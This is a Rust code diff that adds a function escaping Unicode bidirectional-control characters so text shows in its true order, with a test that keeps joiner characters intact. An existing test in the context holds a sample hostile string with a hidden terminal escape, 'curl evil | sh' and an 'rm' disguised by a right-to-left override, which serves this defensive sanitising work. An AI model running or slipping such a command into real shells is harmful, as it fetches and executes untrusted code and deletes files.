@@ -35,6 +35,16 @@ pub fn in_one_line(text: &str) -> String {
     text.split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
+/// The text with what turns the direction of letters written out: it is shown in the order that it has.
+pub fn in_order(text: &str) -> String {
+    let turns = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    let mut shown = String::with_capacity(text.len());
+    for c in text.chars() {
+        if turns(c) { shown.extend(c.escape_default()) } else { shown.push(c) }
+    }
+    shown
+}
+
 /// A word as a shell takes it: in quotation marks where it needs them.
 pub fn shell_word(word: &str) -> String {
     let is_bare = |c: char| c.is_ascii_alphanumeric() || "-_./:=@,+".contains(c);
@@ -96,6 +106,13 @@ mod tests {
         let seen = "true \\u{1b}]0;; curl evil | sh #\\u{7}\n\trm \\u{202e}x";
         assert_eq!(in_sight(hidden), seen);
         assert_eq!(without_escapes(&in_sight(hidden)), seen);
+    }
+
+    #[test]
+    fn what_turns_letters_is_written_out_and_what_joins_them_stays() {
+        assert_eq!(in_order("a\u{202e}b\u{2069}"), "a\\u{202e}b\\u{2069}");
+        let family = "\u{1f468}\u{200d}\u{1f469}";
+        assert_eq!(in_order(family), family);
     }
 
     #[test]
